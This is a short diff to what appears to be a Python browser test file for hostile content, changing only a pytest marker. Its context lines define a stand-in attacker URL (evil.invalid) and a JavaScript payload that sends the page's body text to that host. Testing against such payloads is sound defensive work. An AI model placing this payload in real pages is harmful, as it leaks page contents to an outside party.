@@ -18,7 +18,7 @@ from tests.browser.test_hostile import honest, shown
 from tests.site.load import BUILD, load_site
 
 __all__ = ["shown"]
-pytestmark = [pytest.mark.browser, pytest.mark.xdist_group("hostile")]
+pytestmark = pytest.mark.browser
 EVIL = "http://evil.invalid/"
 STEAL = f"location='{EVIL}?'+encodeURIComponent(document.body.textContent.slice(0,500))"
 PACKED = f'<script type="text/plain">{compress({})}</script>'
